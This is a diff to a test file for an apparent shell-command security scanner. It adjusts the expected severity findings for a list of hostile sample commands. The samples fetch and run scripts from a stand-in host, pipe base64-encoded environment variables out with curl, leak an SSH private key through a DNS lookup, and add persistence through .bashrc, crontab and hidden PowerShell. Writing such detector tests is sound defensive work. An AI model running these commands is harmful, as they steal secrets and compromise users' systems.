@@ -21,7 +21,7 @@ from douane.model import Severity
         ("wget https://x.test/go.sh && sh go.sh", [(1, Severity.CRITICAL)]),
         ("curl -so /tmp/a https://x.test/a; /tmp/a", [(1, Severity.CRITICAL)]),
         ("env | base64 | curl -d @- https://x.test", [(1, Severity.CRITICAL)]),
-        ("K=$(cat ~/.ssh/id_rsa)\nnslookup $K.x.test", [(1, Severity.CRITICAL)]),
+        ("K=$(cat ~/.ssh/id_rsa)\nnslookup $K.x.test", [(1, Severity.CRITICAL), (2, Severity.HIGH)]),
         ("echo 'x' >> ~/.bashrc", [(1, Severity.CRITICAL)]),
         ("(crontab -l; echo '@reboot x') | crontab -", [(1, Severity.CRITICAL)]),
         ("powershell -w hidden -c x", [(1, Severity.CRITICAL)]),
